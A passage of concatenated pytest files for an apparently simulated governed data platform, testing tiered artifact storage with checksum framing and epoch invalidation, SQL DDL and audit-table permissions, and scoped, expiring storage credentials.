            "alice", client_version=old_env.client_protocol_version
        )
        rows = client.sql("SELECT count(*) AS n FROM main.sales.orders").collect()
        assert rows == [(4,)]
