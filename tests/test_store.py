"""The governed persistence tier: tiers, ladder, and end-to-end survival.

Covers, in one place:

- checksum framing (tamper/truncation rejected);
- each tier's own contract: MemoryTier LRU, DiskTier spill files surviving
  re-instantiation, DistKVTier consistent hashing + replication +
  membership-change rebalancing;
- :class:`~repro.store.TieredStore` ladder semantics: write-through,
  memory-only pinning, promotion, corruption rejection, fault absorption;
- restart survival: a fresh cluster on the same spill directory serves
  kernels, secure plans and governed results without recomputing them;
- cross-cluster sharing over one simulated distributed KV;
- the single-invalidation story: a policy-epoch bump (grant/revoke) and a
  data-epoch bump (governed write) are hard misses in *every* tier, and
  superseded entries are physically swept;
- a store-backend × worker-backend matrix property: a repeated governed
  query is served from the store with identical results, and any
  governance/identity change forces a recompute;
- the admin-only ``system.access.store_stats`` table.
"""

from __future__ import annotations

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from repro.common.faults import FaultInjector, FaultSpec
from repro.errors import PermissionDenied
from repro.platform import Workspace
from repro.store import (
    DiskTier,
    DistKVTier,
    MemoryTier,
    TieredStore,
    frame_payload,
    unframe_payload,
)

# ---------------------------------------------------------------------------
# Framing
# ---------------------------------------------------------------------------


class TestFraming:
    def test_roundtrip(self):
        assert unframe_payload(frame_payload(b"hello")) == b"hello"
        assert unframe_payload(frame_payload(b"")) == b""

    def test_tampered_payload_rejected(self):
        raw = bytearray(frame_payload(b"payload-bytes"))
        raw[-1] ^= 0xFF
        assert unframe_payload(bytes(raw)) is None

    def test_truncation_and_garbage_rejected(self):
        raw = frame_payload(b"payload")
        assert unframe_payload(raw[:-1]) is None
        assert unframe_payload(raw[: len(raw) // 2]) is None
        assert unframe_payload(b"") is None
        assert unframe_payload(b"XXXX" + raw[4:]) is None
        assert unframe_payload(None) is None


# ---------------------------------------------------------------------------
# Individual tiers
# ---------------------------------------------------------------------------


class TestMemoryTier:
    def test_lru_eviction(self):
        tier = MemoryTier(capacity=2)
        tier.put("a", b"1")
        tier.put("b", b"2")
        tier.get("a")  # touch: "b" becomes the eviction victim
        tier.put("c", b"3")
        assert tier.get("b") is None
        assert tier.get("a") == b"1"
        assert tier.get("c") == b"3"
        assert tier.stats.evictions == 1

    def test_delete_and_keys(self):
        tier = MemoryTier()
        tier.put("x", b"1")
        assert tier.keys() == ["x"]
        assert tier.delete("x") is True
        assert tier.delete("x") is False
        assert tier.keys() == []

    def test_not_persistent(self):
        assert MemoryTier.persistent is False


class TestDiskTier:
    def test_survives_reinstantiation(self, tmp_path):
        tier = DiskTier(tmp_path)
        tier.put("plan/abc/e1/id0", b"framed-bytes")
        reborn = DiskTier(tmp_path)
        assert reborn.get("plan/abc/e1/id0") == b"framed-bytes"
        assert reborn.keys() == ["plan/abc/e1/id0"]

    def test_missing_and_delete(self, tmp_path):
        tier = DiskTier(tmp_path)
        assert tier.get("nope") is None
        tier.put("k", b"v")
        assert tier.delete("k") is True
        assert tier.delete("k") is False
        assert tier.get("k") is None

    def test_mangled_file_is_a_miss(self, tmp_path):
        tier = DiskTier(tmp_path)
        tier.put("k", b"v")
        (path,) = list(tmp_path.glob("*.lgs"))
        path.write_bytes(b"not a spill file at all")
        assert tier.get("k") is None
        assert tier.keys() == []

    def test_overwrite_replaces(self, tmp_path):
        tier = DiskTier(tmp_path)
        tier.put("k", b"old")
        tier.put("k", b"new")
        assert tier.get("k") == b"new"
        assert len(tier.keys()) == 1

    def test_persistent(self):
        assert DiskTier.persistent is True


class TestDistKVTier:
    def test_put_get_and_replica_placement(self):
        kv = DistKVTier(num_nodes=4, replication=2)
        kv.put("some/key", b"value")
        assert kv.get("some/key") == b"value"
        owners = kv.owners_of("some/key")
        assert len(owners) == 2
        assert len(set(owners)) == 2

    def test_delete_removes_every_copy(self):
        kv = DistKVTier(num_nodes=3, replication=3)
        kv.put("k", b"v")
        assert kv.delete("k") is True
        assert kv.get("k") is None
        assert kv.keys() == []

    def test_replication_survives_node_removal(self):
        kv = DistKVTier(num_nodes=4, replication=2)
        keys = [f"artifact/{i}" for i in range(40)]
        for key in keys:
            kv.put(key, key.encode())
        kv.remove_node(kv.node_names[0])
        for key in keys:
            assert kv.get(key) == key.encode()
        # Survivors were re-replicated back up to the replication factor.
        for key in keys:
            assert len(kv.owners_of(key)) == 2

    def test_add_node_rebalances_and_preserves_keys(self):
        kv = DistKVTier(num_nodes=3, replication=2)
        keys = [f"artifact/{i}" for i in range(40)]
        for key in keys:
            kv.put(key, key.encode())
        new_node = kv.add_node()
        assert new_node in kv.node_names
        assert kv.rebalance_moves > 0
        for key in keys:
            assert kv.get(key) == key.encode()
        # The new node actually owns a share of the keyspace.
        assert any(new_node in kv.owners_of(key) for key in keys)

    def test_cannot_remove_last_node(self):
        kv = DistKVTier(num_nodes=1, replication=1)
        with pytest.raises(ValueError):
            kv.remove_node(kv.node_names[0])


# ---------------------------------------------------------------------------
# The tiered ladder
# ---------------------------------------------------------------------------


def _ladder(tmp_path, faults=None) -> TieredStore:
    return TieredStore(
        [MemoryTier(), DiskTier(tmp_path)], faults=faults
    )


class TestTieredStore:
    def test_write_through_and_read_back(self, tmp_path):
        store = _ladder(tmp_path)
        assert store.put("k", b"payload") is True
        assert store.get("k") == b"payload"
        # Both tiers hold the framed copy.
        assert store.tiers[0].get("k") is not None
        assert store.tiers[1].get("k") is not None

    def test_memory_only_never_reaches_disk(self, tmp_path):
        store = _ladder(tmp_path)
        store.put("cred/secret", b"ssshhh", memory_only=True)
        assert store.tiers[1].get("cred/secret") is None
        assert store.get("cred/secret", memory_only=True) == b"ssshhh"
        # A ladder-wide read also finds it (memory is the first rung).
        assert store.get("cred/secret") == b"ssshhh"

    def test_lower_tier_hit_promotes(self, tmp_path):
        store = _ladder(tmp_path)
        store.put("k", b"payload")
        store.tiers[0].clear()  # simulate a restart: memory is gone
        assert store.get("k") == b"payload"
        assert store.stats.promotions == 1
        assert store.tiers[0].get("k") is not None  # copied back up

    def test_corrupt_copy_rejected_and_healed_from_below(self, tmp_path):
        store = _ladder(tmp_path)
        store.put("k", b"payload")
        store.tiers[0].put("k", b"garbage-not-a-frame")
        assert store.get("k") == b"payload"  # served by the disk tier
        assert store.stats.corruption_rejected == 1
        # The bad memory copy was deleted and replaced by the good one.
        assert unframe_payload(store.tiers[0].get("k")) == b"payload"

    def test_all_copies_corrupt_is_a_miss(self, tmp_path):
        store = _ladder(tmp_path)
        store.put("k", b"payload")
        store.tiers[0].put("k", b"bad")
        # Mangle the spill file's framed region too.
        (path,) = list(tmp_path.glob("*.lgs"))
        path.write_bytes(path.read_bytes()[:-3] + b"zzz")
        assert store.get("k") is None
        assert store.stats.corruption_rejected == 2

    def test_get_fault_absorbed_as_miss(self, tmp_path):
        faults = FaultInjector()
        store = _ladder(tmp_path, faults=faults)
        store.put("k", b"payload")
        faults.arm("store.get", FaultSpec(one_shot=True))
        assert store.get("k") is None  # absorbed, never raised
        assert store.stats.fault_drops == 1
        assert store.get("k") == b"payload"  # next read is fine

    def test_put_fault_absorbed_as_skipped_write(self, tmp_path):
        faults = FaultInjector()
        store = _ladder(tmp_path, faults=faults)
        faults.arm("store.put", FaultSpec(one_shot=True))
        assert store.put("k", b"payload") is False
        assert store.get("k") is None
        assert store.put("k", b"payload") is True

    def test_injected_corruption_is_checksum_rejected(self, tmp_path):
        faults = FaultInjector()
        store = _ladder(tmp_path, faults=faults)
        store.put("k", b"payload")
        faults.arm("store.get", FaultSpec(kind="corrupt", one_shot=True))
        # The corrupt fault mangles the first copy read; the checksum
        # rejects it and the ladder falls through to the intact disk copy.
        assert store.get("k") == b"payload"
        assert store.stats.corruption_rejected == 1

    def test_evict_and_prefix_evict(self, tmp_path):
        store = _ladder(tmp_path)
        store.put("result/f1/e1/a", b"1")
        store.put("result/f1/e2/a", b"2")
        store.put("result/f2/e1/a", b"3")
        assert store.evict("result/f2/e1/a") == 2  # one copy per tier
        assert store.evict_prefix("result/f1/e1") == 2
        assert store.keys() == ["result/f1/e2/a"]

    def test_stats_snapshot_flattens_tiers(self, tmp_path):
        store = _ladder(tmp_path)
        store.put("k", b"v")
        store.get("k")
        snap = store.stats_snapshot()
        assert snap["hits"] == 1
        assert snap["puts"] == 1
        assert snap["persistent"] == 1.0
        assert snap["memory.puts"] == 1
        assert snap["disk.puts"] == 1


# ---------------------------------------------------------------------------
# End-to-end: clusters riding the store
# ---------------------------------------------------------------------------

_SETUP_SQL = (
    "CREATE TABLE main.sales.orders "
    "(id int, region string, amount float)",
    "INSERT INTO main.sales.orders VALUES "
    "(1,'US',10.0),(2,'EU',20.0),(3,'US',30.0),(4,'APAC',40.0)",
    "GRANT USE CATALOG ON main TO analysts",
    "GRANT USE SCHEMA ON main.sales TO analysts",
    "GRANT SELECT ON main.sales.orders TO analysts",
)

#: A query that exercises kernels (filter + computed projection), the plan
#: cache, credential vending and the result cache in one go.
_QUERY = (
    "SELECT region, amount * 2.0 AS doubled FROM main.sales.orders "
    "WHERE amount > 5.0"
)


def _make_workspace(**kwargs) -> Workspace:
    ws = Workspace(**kwargs)
    ws.add_user("admin", admin=True)
    ws.add_user("alice")
    ws.add_user("bob")
    ws.add_group("analysts", ["alice", "bob"])
    ws.catalog.create_catalog("main", owner="admin")
    ws.catalog.create_schema("main.sales", owner="admin")
    # Hit-count assertions below are strict: the chaos CI leg arms
    # probabilistic store.get/store.put faults process-wide, which the
    # store absorbs as misses by design — fine for correctness, fatal for
    # exact-count asserts. Disarm just the store points for these tests.
    for point in ("store.get", "store.put", "store.evict"):
        ws.catalog.faults.disarm(point)
    return ws


def _seed(cluster):
    admin = cluster.connect("admin")
    for sql in _SETUP_SQL:
        admin.sql(sql)
    return admin


class TestRestartSurvival:
    def test_fresh_cluster_on_same_store_dir_serves_everything(self, tmp_path):
        store_dir = str(tmp_path / "spill")
        ws1 = _make_workspace(
            store_backend="disk", store_dir=store_dir, result_cache_enabled=True
        )
        c1 = ws1.create_standard_cluster()
        _seed(c1)
        alice = c1.connect("alice")
        first = alice.sql(_QUERY).collect()
        assert c1.backend.result_cache.stats.stored == 1
        again = alice.sql(_QUERY).collect()
        assert again == first
        assert c1.backend.result_cache.stats.hits == 1
        ws1.shutdown()

        # "Restart": a brand-new workspace and cluster, same spill dir and
        # same cluster name (the compute id is part of every plan/result
        # key), replaying the same governance history so both epochs line
        # up with what the store was warmed under.
        ws2 = _make_workspace(
            store_backend="disk", store_dir=store_dir, result_cache_enabled=True
        )
        c2 = ws2.create_standard_cluster()
        _seed(c2)
        alice2 = c2.connect("alice")
        revived = alice2.sql(_QUERY).collect()
        assert revived == first
        assert c2.backend.plan_cache.stats.persistent_hits >= 1
        assert c2.backend.kernel_cache.stats.persistent_hits >= 1
        assert c2.backend.result_cache.stats.hits == 1
        assert c2.backend.result_cache.stats.stored == 0  # nothing recomputed
        ws2.shutdown()

    def test_store_backend_validation(self):
        ws = _make_workspace(store_backend="disk")  # no store_dir
        with pytest.raises(ValueError, match="store_dir"):
            ws.create_standard_cluster()
        with pytest.raises(ValueError, match="store_backend"):
            _make_workspace(store_backend="wat").create_standard_cluster()
        with pytest.raises(ValueError, match="result_cache"):
            _make_workspace(
                store_backend="none", result_cache_enabled=True
            ).create_standard_cluster()

    def test_store_dir_alone_implies_disk_backend(self, tmp_path):
        ws = _make_workspace(store_dir=str(tmp_path / "s"))
        cluster = ws.create_standard_cluster()
        assert cluster.backend.artifact_store.has_persistent
        ws.shutdown()

    def test_backend_none_disables_the_store(self):
        ws = _make_workspace(store_backend="none")
        cluster = ws.create_standard_cluster()
        assert cluster.backend.artifact_store is None
        assert cluster.backend.result_cache is None
        ws.shutdown()


class TestCrossClusterSharing:
    def test_two_clusters_share_kernels_over_one_dist_kv(self):
        ws = _make_workspace(store_backend="distkv")
        c1 = ws.create_standard_cluster(name="fleet-a")
        c2 = ws.create_standard_cluster(name="fleet-b")
        # Both ladders bottom out in the same workspace-shared KV.
        assert c1.backend.artifact_store.store.tiers[-1] is ws.dist_kv
        assert c2.backend.artifact_store.store.tiers[-1] is ws.dist_kv
        _seed(c1)
        alice1 = c1.connect("alice")
        first = alice1.sql(_QUERY).collect()
        assert c1.backend.kernel_cache.stats.persistent_hits == 0
        # The second cluster compiles nothing: kernels are content-addressed
        # (no epoch, no compute id in the key), so the fleet shares them.
        alice2 = c2.connect("alice")
        assert alice2.sql(_QUERY).collect() == first
        assert c2.backend.kernel_cache.stats.persistent_hits >= 1
        # Plans and results are compute-scoped by key: no cross-serving.
        assert c2.backend.plan_cache.stats.persistent_hits == 0
        ws.shutdown()


class TestEpochInvalidation:
    def test_policy_epoch_bump_is_a_hard_miss_and_sweeps_tiers(self, tmp_path):
        ws = _make_workspace(
            store_backend="disk",
            store_dir=str(tmp_path / "spill"),
            result_cache_enabled=True,
        )
        cluster = ws.create_standard_cluster()
        admin = _seed(cluster)
        alice = cluster.connect("alice")
        first = alice.sql(_QUERY).collect()
        assert alice.sql(_QUERY).collect() == first
        cache = cluster.backend.result_cache
        assert cache.stats.hits == 1
        store = cluster.backend.artifact_store.store
        stale_keys = [k for k in store.keys() if k.startswith("result/")]
        assert stale_keys

        # Any governance change bumps the policy epoch: hard miss.
        admin.sql("GRANT SELECT ON main.sales.orders TO hr")
        recomputed = alice.sql(_QUERY).collect()
        assert recomputed == first
        assert cache.stats.hits == 1  # unchanged: the bump forced recompute
        assert cache.stats.stored == 2
        # The superseded-epoch entries were physically swept from all tiers.
        for key in stale_keys:
            for tier in store.tiers:
                assert tier.get(key) is None
        assert cache.stats.stale_evicted >= 1
        ws.shutdown()

    def test_governed_write_bumps_data_epoch_and_invalidates(self, tmp_path):
        ws = _make_workspace(
            store_backend="disk",
            store_dir=str(tmp_path / "spill"),
            result_cache_enabled=True,
        )
        cluster = ws.create_standard_cluster()
        admin = _seed(cluster)
        alice = cluster.connect("alice")
        before = alice.sql(_QUERY).collect()
        admin.sql("INSERT INTO main.sales.orders VALUES (5,'US',50.0)")
        after = alice.sql(_QUERY).collect()
        assert len(after) == len(before) + 1
        assert cluster.backend.result_cache.stats.hits == 0
        # The new state is cached under the new data epoch.
        assert alice.sql(_QUERY).collect() == after
        assert cluster.backend.result_cache.stats.hits == 1
        ws.shutdown()


class TestResultCacheGovernance:
    @pytest.mark.parametrize("store_backend", ["memory", "disk", "distkv"])
    @pytest.mark.parametrize("worker_backend", ["thread", "process"])
    def test_repeat_serves_from_store_and_changes_recompute(
        self, tmp_path, store_backend, worker_backend
    ):
        kwargs = {"store_backend": store_backend, "result_cache_enabled": True}
        if store_backend == "disk":
            kwargs["store_dir"] = str(tmp_path / "spill")
        ws = _make_workspace(**kwargs)
        cluster = ws.create_standard_cluster(
            worker_backend=worker_backend, worker_pool_size=1
        )
        admin = _seed(cluster)
        alice = cluster.connect("alice")
        cache = cluster.backend.result_cache

        first = alice.sql(_QUERY).collect()
        assert cache.stats.stored == 1
        assert alice.sql(_QUERY).collect() == first
        assert cache.stats.hits == 1

        # A different principal never sees another identity's entry.
        bob = cluster.connect("bob")
        assert bob.sql(_QUERY).collect() == first  # same grants, own key
        assert cache.stats.hits == 1
        assert cache.stats.stored == 2

        # A row filter changes what alice may see: epoch bump, recompute.
        admin.sql(
            "ALTER TABLE main.sales.orders SET ROW FILTER (region = 'US')"
        )
        filtered = alice.sql(_QUERY).collect()
        assert len(filtered) == 2
        assert cache.stats.hits == 1
        ws.shutdown()

    def test_user_code_queries_are_ineligible_by_construction(self, tmp_path):
        from repro.connect.client import udf as connect_udf

        @connect_udf("float", deterministic=False)
        def jitter(x):
            return x

        ws = _make_workspace(
            store_backend="disk",
            store_dir=str(tmp_path / "spill"),
            result_cache_enabled=True,
        )
        cluster = ws.create_standard_cluster()
        _seed(cluster)
        alice = cluster.connect("alice")
        alice.register_udf(jitter)
        cache = cluster.backend.result_cache
        alice.sql("SELECT jitter(amount) AS r FROM main.sales.orders").collect()
        assert cache.stats.ineligible >= 1
        assert cache.stats.stored == 0
        ws.shutdown()

    def test_store_stats_table_is_admin_only(self, tmp_path):
        ws = _make_workspace(
            store_backend="disk",
            store_dir=str(tmp_path / "spill"),
            result_cache_enabled=True,
        )
        cluster = ws.create_standard_cluster()
        admin = _seed(cluster)
        alice = cluster.connect("alice")
        alice.sql(_QUERY).collect()
        alice.sql(_QUERY).collect()
        rows = admin.table("system.access.store_stats").collect()
        metrics = {(scope, metric): value for scope, metric, value in rows}
        assert metrics[("store[standard]", "result_puts")] >= 1.0
        assert metrics[("result_cache[standard]", "hits")] >= 1.0
        with pytest.raises(PermissionDenied):
            alice.table("system.access.store_stats").collect()
        ws.shutdown()


# ---------------------------------------------------------------------------
# Property: cached replay is always identical to fresh execution
# ---------------------------------------------------------------------------


class TestReplayProperty:
    @settings(
        max_examples=12,
        deadline=None,
        suppress_health_check=[HealthCheck.function_scoped_fixture],
    )
    @given(
        threshold=st.sampled_from([0.0, 5.0, 10.0, 25.0, 35.0, 100.0]),
        region=st.sampled_from(["US", "EU", "APAC", "MARS"]),
    )
    def test_cached_result_equals_fresh_execution(self, threshold, region):
        ws = _PROPERTY_WORKSPACE[0]
        if ws is None:
            ws = _make_workspace(store_backend="memory", result_cache_enabled=True)
            _seed(ws.create_standard_cluster())
            _PROPERTY_WORKSPACE[0] = ws
        cluster = ws.clusters["standard"]
        alice = cluster.connect("alice")
        query = (
            "SELECT id, amount FROM main.sales.orders "
            f"WHERE amount > {threshold} AND region = '{region}'"
        )
        hits_before = cluster.backend.result_cache.stats.hits
        fresh = alice.sql(query).collect()
        replay = alice.sql(query).collect()
        assert replay == fresh
        assert cluster.backend.result_cache.stats.hits > hits_before


#: Lazily built shared workspace for the hypothesis property above (one
#: cluster across all examples keeps the property fast).
_PROPERTY_WORKSPACE: list = [None]
