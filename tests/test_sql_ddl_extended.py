"""Tests for the extended SQL surface: CTAS, DROP, SHOW GRANTS, DESCRIBE,
and the queryable audit system table."""

import pytest

from repro.errors import AnalysisError, ParseError, PermissionDenied
from repro.sql import ast_nodes as ast
from repro.sql.parser import parse_statement


class TestParsing:
    def test_ctas(self):
        stmt = parse_statement("CREATE TABLE a.b.t AS SELECT 1 AS one")
        assert isinstance(stmt, ast.CreateTableAsSelectStatement)
        assert stmt.query_sql == "SELECT 1 AS one"

    def test_drop_table(self):
        stmt = parse_statement("DROP TABLE a.b.t")
        assert stmt.kind == "TABLE"

    def test_drop_view(self):
        stmt = parse_statement("DROP VIEW a.b.v")
        assert stmt.kind == "VIEW"

    def test_drop_other_rejected(self):
        with pytest.raises(ParseError):
            parse_statement("DROP FUNCTION a.b.f")

    def test_show_grants(self):
        stmt = parse_statement("SHOW GRANTS ON a.b.t")
        assert stmt.securable == "a.b.t"

    def test_describe(self):
        stmt = parse_statement("DESCRIBE a.b.t")
        assert stmt.name == "a.b.t"
        stmt = parse_statement("DESCRIBE TABLE a.b.t")
        assert stmt.name == "a.b.t"


class TestCTAS:
    def test_ctas_materializes_query(self, workspace, standard_cluster, admin_client):
        result = admin_client.sql(
            "CREATE TABLE main.sales.us_orders AS "
            "SELECT id, amount FROM main.sales.orders WHERE region = 'US'"
        )
        assert result["rows"] == 2
        rows = admin_client.table("main.sales.us_orders").collect()
        assert sorted(rows) == [(1, 10.0), (3, 30.0)]

    def test_ctas_result_is_governed(self, workspace, standard_cluster, admin_client):
        admin_client.sql(
            "CREATE TABLE main.sales.derived AS SELECT id FROM main.sales.orders"
        )
        alice = standard_cluster.connect("alice")
        with pytest.raises(PermissionDenied):
            alice.table("main.sales.derived").collect()

    def test_ctas_snapshot_semantics(self, workspace, standard_cluster, admin_client):
        admin_client.sql(
            "CREATE TABLE main.sales.snap AS SELECT count(*) AS n FROM main.sales.orders"
        )
        admin_client.sql("INSERT INTO main.sales.orders VALUES (6,'US',1.0,'x')")
        assert admin_client.table("main.sales.snap").collect() == [(4,)]

    def test_ctas_requires_create_privilege(self, workspace, standard_cluster, admin_client):
        alice = standard_cluster.connect("alice")
        with pytest.raises(PermissionDenied):
            alice.sql(
                "CREATE TABLE main.sales.by_alice AS SELECT id FROM main.sales.orders"
            )

    def test_ctas_applies_callers_row_filter(self, workspace, standard_cluster, admin_client):
        """A CTAS by a filtered user copies only what that user can see."""
        admin_client.sql("ALTER TABLE main.sales.orders SET ROW FILTER (region = 'US')")
        admin_client.sql("GRANT CREATE_TABLE ON main.sales TO analysts")
        alice = standard_cluster.connect("alice")
        alice.sql(
            "CREATE TABLE main.sales.alice_copy AS SELECT * FROM main.sales.orders"
        )
        # alice owns the copy: she sees exactly her 2 visible rows.
        assert len(alice.table("main.sales.alice_copy").collect()) == 2


class TestDrop:
    def test_drop_table(self, workspace, standard_cluster, admin_client):
        admin_client.sql("DROP TABLE main.sales.orders")
        assert not workspace.catalog.object_exists("main.sales.orders")

    def test_drop_requires_ownership(self, workspace, standard_cluster, admin_client):
        alice = standard_cluster.connect("alice")
        with pytest.raises(PermissionDenied):
            alice.sql("DROP TABLE main.sales.orders")

    def test_drop_view_kind_checked(self, workspace, standard_cluster, admin_client):
        with pytest.raises(AnalysisError):
            admin_client.sql("DROP VIEW main.sales.orders")

    def test_drop_removes_policies(self, workspace, standard_cluster, admin_client):
        admin_client.sql("ALTER TABLE main.sales.orders SET ROW FILTER (region = 'US')")
        admin_client.sql("DROP TABLE main.sales.orders")
        assert not workspace.catalog.has_policies("main.sales.orders")


class TestShowGrantsAndDescribe:
    def test_show_grants(self, workspace, standard_cluster, admin_client):
        payload = admin_client.sql("SHOW GRANTS ON main.sales.orders")
        grants = payload["grants"]
        assert {"principal": "analysts", "privilege": "SELECT"} in grants

    def test_show_grants_requires_manage(self, workspace, standard_cluster, admin_client):
        alice = standard_cluster.connect("alice")
        with pytest.raises(PermissionDenied):
            alice.sql("SHOW GRANTS ON main.sales.orders")

    def test_describe_columns(self, workspace, standard_cluster, admin_client):
        admin_client.sql(
            "ALTER TABLE main.sales.orders ALTER COLUMN buyer SET MASK ('x')"
        )
        workspace.catalog.tags.tag_column("main.sales.orders", "buyer", "pii")
        payload = admin_client.sql("DESCRIBE main.sales.orders")
        by_name = {c["name"]: c for c in payload["columns"]}
        assert by_name["buyer"]["masked"] is True
        assert by_name["buyer"]["tags"] == ["pii"]
        assert by_name["id"]["type"] == "int"
        assert payload["row_filter"] is False

    def test_describe_requires_select(self, workspace, standard_cluster, admin_client):
        bob = standard_cluster.connect("bob")
        with pytest.raises(PermissionDenied):
            bob.sql("DESCRIBE main.sales.orders")


class TestAuditSystemTable:
    def test_admin_queries_audit_log(self, workspace, standard_cluster, admin_client, alice_client):
        alice_client.table("main.sales.orders").collect()
        rows = admin_client.sql(
            "SELECT principal, action FROM system.access.audit "
            "WHERE principal = 'alice'"
        ).collect()
        assert rows, "alice's accesses must be queryable"
        actions = {r[1] for r in rows}
        assert any(a.startswith("catalog.") for a in actions)

    def test_audit_aggregation(self, workspace, standard_cluster, admin_client, alice_client):
        alice_client.table("main.sales.orders").collect()
        rows = admin_client.sql(
            "SELECT principal, count(*) AS n FROM system.access.audit "
            "GROUP BY principal ORDER BY n DESC"
        ).collect()
        assert rows

    def test_non_admin_denied(self, workspace, standard_cluster, admin_client):
        alice = standard_cluster.connect("alice")
        with pytest.raises(PermissionDenied):
            alice.sql("SELECT * FROM system.access.audit").collect()

    def test_denials_visible_in_audit(self, workspace, standard_cluster, admin_client):
        bob = standard_cluster.connect("bob")
        with pytest.raises(PermissionDenied):
            bob.table("main.sales.orders").collect()
        rows = admin_client.sql(
            "SELECT principal FROM system.access.audit WHERE allowed = false"
        ).collect()
        assert ("bob",) in rows


class TestSandboxEnvironments:
    def test_sessions_with_different_envs_get_different_sandboxes(
        self, workspace, standard_cluster, admin_client
    ):
        from repro.connect.client import col, udf

        @udf("float")
        def one(x):
            return 1.0

        a1 = standard_cluster.connect("alice", config={"workload_env": "1.0"})
        a2 = standard_cluster.connect("alice", config={"workload_env": "2.0"})
        a1.table("main.sales.orders").select(one(col("amount"))).collect()
        a2.table("main.sales.orders").select(one(col("amount"))).collect()
        envs = {
            getattr(s, "environment", None)
            for s in standard_cluster.backend.cluster_manager.active_sandboxes()
        }
        assert {"1.0", "2.0"} <= envs

    def test_same_session_same_env_reuses(self, workspace, standard_cluster, admin_client):
        from repro.connect.client import col, udf

        @udf("float")
        def one(x):
            return 1.0

        client = standard_cluster.connect("alice", config={"workload_env": "3.0"})
        client.table("main.sales.orders").select(one(col("amount"))).collect()
        client.table("main.sales.orders").select(one(col("amount"))).collect()
        stats = standard_cluster.backend.dispatcher.stats
        assert stats.cold_starts == 1
        assert stats.warm_acquisitions >= 1
