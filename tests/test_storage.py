"""Tests for the object store, credentials, and table format."""

import pytest

from repro.common.clock import VirtualClock
from repro.errors import CredentialError, StorageAccessDenied, StorageError
from repro.storage import (
    CredentialVendor,
    InstanceProfileCredential,
    LakeTableStorage,
    ObjectStore,
)
from repro.storage.credentials import LIST, READ, WRITE


@pytest.fixture
def clock():
    return VirtualClock()


@pytest.fixture
def vendor(clock):
    return CredentialVendor(clock=clock, ttl_seconds=60.0)


@pytest.fixture
def store(clock):
    return ObjectStore(clock=clock)


@pytest.fixture
def root_cred(vendor):
    return vendor.issue("root", ["s3://"], {READ, WRITE, LIST, "DELETE"})


class TestCredentials:
    def test_scoped_to_prefix(self, vendor, clock):
        cred = vendor.issue("alice", ["s3://bucket/tableA"], {READ})
        assert cred.authorizes("s3://bucket/tableA/file1", READ, clock.now())
        assert not cred.authorizes("s3://bucket/tableB/file1", READ, clock.now())

    def test_scoped_to_operations(self, vendor, clock):
        cred = vendor.issue("alice", ["s3://b/t"], {READ})
        assert not cred.authorizes("s3://b/t/f", WRITE, clock.now())

    def test_expiry(self, vendor, clock):
        cred = vendor.issue("alice", ["s3://b/t"], {READ})
        clock.advance(61.0)
        assert not cred.authorizes("s3://b/t/f", READ, clock.now())
        assert cred.is_expired(clock.now())

    def test_identity_embedded(self, vendor):
        cred = vendor.issue("alice", ["s3://b/t"], {READ})
        assert cred.identity == "alice"

    def test_validate_live(self, vendor):
        cred = vendor.issue("alice", ["s3://b/t"], {READ})
        vendor.validate(cred)  # no raise

    def test_validate_revoked(self, vendor):
        cred = vendor.issue("alice", ["s3://b/t"], {READ})
        vendor.revoke(cred.token)
        with pytest.raises(CredentialError):
            vendor.validate(cred)

    def test_validate_expired(self, vendor, clock):
        cred = vendor.issue("alice", ["s3://b/t"], {READ})
        clock.advance(120.0)
        with pytest.raises(CredentialError):
            vendor.validate(cred)

    def test_revoke_identity(self, vendor):
        vendor.issue("alice", ["s3://a"], {READ})
        vendor.issue("alice", ["s3://b"], {READ})
        vendor.issue("bob", ["s3://c"], {READ})
        assert vendor.revoke_identity("alice") == 2
        assert len(vendor.live_credentials()) == 1

    def test_unknown_operation_rejected(self, vendor):
        with pytest.raises(CredentialError):
            vendor.issue("alice", ["s3://b"], {"FLY"})

    def test_empty_prefixes_rejected(self, vendor):
        with pytest.raises(CredentialError):
            vendor.issue("alice", [], {READ})

    def test_issued_count(self, vendor):
        vendor.issue("a", ["s3://x"], {READ})
        vendor.issue("b", ["s3://y"], {READ})
        assert vendor.issued_count == 2

    def test_instance_profile_has_no_user(self):
        profile = InstanceProfileCredential("t", "cluster-1", ("s3://data",))
        assert profile.identity == "<cluster>"
        assert profile.authorizes("s3://data/f", READ, now=0.0)
        assert not profile.authorizes("s3://other/f", READ, now=0.0)


class TestObjectStore:
    def test_put_get_roundtrip(self, store, root_cred):
        store.put("s3://b/k", b"hello", root_cred)
        assert store.get("s3://b/k", root_cred) == b"hello"

    def test_get_missing_raises(self, store, root_cred):
        with pytest.raises(StorageError):
            store.get("s3://b/missing", root_cred)

    def test_denied_outside_scope(self, store, vendor, root_cred):
        store.put("s3://secret/k", b"x", root_cred)
        narrow = vendor.issue("alice", ["s3://public"], {READ})
        with pytest.raises(StorageAccessDenied):
            store.get("s3://secret/k", narrow)
        assert store.stats.denied_ops == 1

    def test_object_level_granularity(self, store, root_cred, vendor):
        """There is no partial-object authorization: all bytes or none."""
        store.put("s3://d/file", b"A" * 100, root_cred)
        reader = vendor.issue("alice", ["s3://d"], {READ})
        data = store.get("s3://d/file", reader)
        assert len(data) == 100  # the full object, always

    def test_list_prefix(self, store, root_cred):
        store.put("s3://b/t/1", b"x", root_cred)
        store.put("s3://b/t/2", b"y", root_cred)
        store.put("s3://b/u/3", b"z", root_cred)
        assert store.list("s3://b/t/", root_cred) == ["s3://b/t/1", "s3://b/t/2"]

    def test_delete(self, store, root_cred):
        store.put("s3://b/k", b"x", root_cred)
        store.delete("s3://b/k", root_cred)
        assert not store.exists("s3://b/k", root_cred)

    def test_stats_track_bytes(self, store, root_cred):
        store.put("s3://b/k", b"12345", root_cred)
        store.get("s3://b/k", root_cred)
        assert store.stats.bytes_written == 5
        assert store.stats.bytes_read == 5

    def test_total_bytes_accounting(self, store, root_cred):
        store.put("s3://b/a", b"123", root_cred)
        store.put("s3://b/b", b"4567", root_cred)
        assert store.total_bytes("s3://b") == 7
        assert store.object_count("s3://b") == 2

    def test_put_requires_bytes(self, store, root_cred):
        with pytest.raises(StorageError):
            store.put("s3://b/k", "not-bytes", root_cred)


class TestLakeTableStorage:
    @pytest.fixture
    def table(self, store, root_cred):
        t = LakeTableStorage(store, "s3://wh/t1")
        t.create(["id", "v"], root_cred)
        return t

    def test_create_starts_at_version_zero(self, table, root_cred):
        assert table.latest_version(root_cred) == 0
        snap = table.snapshot(root_cred)
        assert snap.num_rows == 0
        assert snap.column_names == ("id", "v")

    def test_double_create_rejected(self, table, root_cred):
        with pytest.raises(StorageError):
            table.create(["id"], root_cred)

    def test_append_advances_version(self, table, root_cred):
